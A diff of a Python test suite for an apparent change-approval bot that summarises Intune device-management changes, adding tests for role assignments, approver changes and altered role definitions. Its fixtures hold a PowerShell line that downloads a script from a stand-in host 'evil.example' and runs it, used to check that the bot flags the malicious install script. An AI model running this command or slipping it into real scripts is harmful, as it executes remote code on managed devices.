@@ -15,6 +15,7 @@ from tests.office import Office, day_with, text_of, verbs_of
 EVIL = "Invoke-WebRequest https://evil.example/x.ps1 | iex\n"
 MANAGEMENT, APPS = "deviceManagement", "deviceAppManagement/mobileApps"
 LAPTOPS = "All-Windows-Laptops"
+HELPDESK = guid("role", "Branch Helpdesk")
 
 
 def sha(text: str) -> str:
@@ -75,7 +76,7 @@ async def test_an_app_is_changed(day: Office, file: Any) -> None:
     facts_in(card, f"new, 1 line, SHA-256 {sha(EVIL)}", "Install script", "install.ps1: 1 line", "Enough room: 1 line")
     facts_in(card, "Invoke-WebRequest", "Start-Process msiexec", "Test-Path")
     # The rule that was there already has moved, and is no change.
-    assert set(re.findall(r"Detection rules\[\d\].[\w ]+", card.replace("\\\\", ""))) == {"Detection rules[1].type"}
+    assert set(re.findall(r"Detection rules \d: [\w ]+", card)) == {"Detection rules 1: type"}
 
 
 @EVERYONE_DECIDES
@@ -173,7 +174,7 @@ async def test_a_policy_of_the_settings_catalogue(day: Office, file: Any) -> Non
     file.file_change("rita", f"{MANAGEMENT}/configurationPolicies", "Windows hardening", patch, "Meetings")
     card = await details_of(day)
     facts_in(card, "Update configuration policy Windows hardening", "Allow camera", "Not allowed → Allowed")
-    facts_in(card, "Firewall rules[1] > Name", "Mail", "a secret, which may be another one now")
+    facts_in(card, "Firewall rules 1: Name", "Mail", "a secret, which may be another one now")
     assert "Web" not in card
     assert "hunter" not in card
 
@@ -243,7 +244,7 @@ async def test_a_custom_profile(day: Office, file: Any) -> None:
     card = await details_of(day)
     facts_in(card, "Update configuration profile Start menu", f"{layout['omaUri']}: SHA-256")
     facts_in(card, f"3 lines, SHA-256 {sha(text)}")
-    facts_in(card, "Oma settings[2].value", "1 → 3", "<Pin app='evil'/>")
+    facts_in(card, "OMA settings 2: value", "1 → 3", "<Pin app='evil'/>")
 
 
 @EVERYONE_DECIDES
@@ -285,7 +286,7 @@ OTHERS: dict[str, tuple[str, dict[str, Any], str, list[str]]] = {
         "Personal devices",
         {"platformRestriction": {"platformBlocked": False, "personalDeviceEnrollmentBlocked": False}},
         "Update enrollment configuration Personal devices",
-        ["Platform restriction.personal device enrollment blocked", "yes → no"],
+        ["Platform restriction: personal device enrollment blocked", "yes → no"],
     ),
     "windowsAutopilotDeploymentProfiles": (
         "Laptops",
@@ -335,18 +336,62 @@ async def test_other_types(day: Office, file: Any, segment: str) -> None:
     facts_in(await details_of(day), title, *told)
 
 
-async def test_an_assignment_of_a_role(day: Office) -> None:
-    """Who will hold it, by the names of groups."""
+def assigned(day: Office) -> None:
+    """Somebody gives the night shift a role."""
     body = {
         "@odata.type": "#microsoft.graph.deviceAndAppManagementRoleAssignment",
         "displayName": "Night helpdesk",
         "members": [day.tenant.world.group("Night-Shift").id],
         "resourceScopes": [day.tenant.world.group(LAPTOPS).id],
+        "roleDefinition@odata.bind": f"https://graph.microsoft.com/beta/deviceManagement/roleDefinitions('{HELPDESK}')",
     }
     day.tenant.portal.file_new("rita", f"{MANAGEMENT}/roleAssignments", body, "Nights")
+
+
+async def test_an_assignment_of_a_role(day: Office) -> None:
+    """Who will hold which one, what it allows, and over whom, by their names alone."""
+    assigned(day)
     await day.poll()
     [card] = day.requests()
     facts_in(text_of(card.card), "Create role assignment Night helpdesk", "Will hold the role", "Night-Shift", "Over")
+    facts_in(text_of(card.card), "Role definition", "Branch Helpdesk", "Permissions", "Remote tasks: remote lock")
+    assert day.tenant.world.group(LAPTOPS).id not in text_of(card.card)
+
+
+async def test_an_access_policy_gets_other_approvers(day: Office) -> None:
+    """Who will approve, and who does so until now and will not any more."""
+    day.tenant.portal.file_policy_change("rita", "deviceWipe", ["Security-Team", "IT-Directors"], "Too slow")
+    await day.poll()
+    [card] = day.requests()
+    said = text_of(card.card)
+    facts_in(said, "Update access policy Device wipe", "Will approve", "Security-Team", "IT-Directors")
+    facts_in(said, "Approved until now", "Device-Managers")
+    assert said.index("Device-Managers (") > said.index("IT-Directors (")
+
+
+async def test_a_role_that_is_given_and_becomes_another(day: Office) -> None:
+    """Votes were for what it allowed."""
+    assigned(day)
+    await day.poll()
+    before = await day.bot.store.requests.load(await day.request_id())
+    role = day.tenant.world.role_definitions[HELPDESK]
+    allowed = {"allowedResourceActions": ["Microsoft.Intune_RemoteTasks_Wipe"], "notAllowedResourceActions": []}
+    role["rolePermissions"] = [{"resourceActions": [allowed]}]
+    await day.pass_time(minutes=1)
+    await day.poll()
+    after = await day.bot.store.requests.load(await day.request_id())
+    assert before is not None
+    assert after is not None
+    assert after.digest != before.digest
+
+
+async def test_a_role_that_is_given_and_hidden(day: Office) -> None:
+    """It is said which one could not be read."""
+    assigned(day)
+    day.tenant.world.role_definitions.clear()
+    await day.poll()
+    [card] = day.requests()
+    facts_in(text_of(card.card), f"the role {HELPDESK}")
 
 
 @EVERYONE_DECIDES
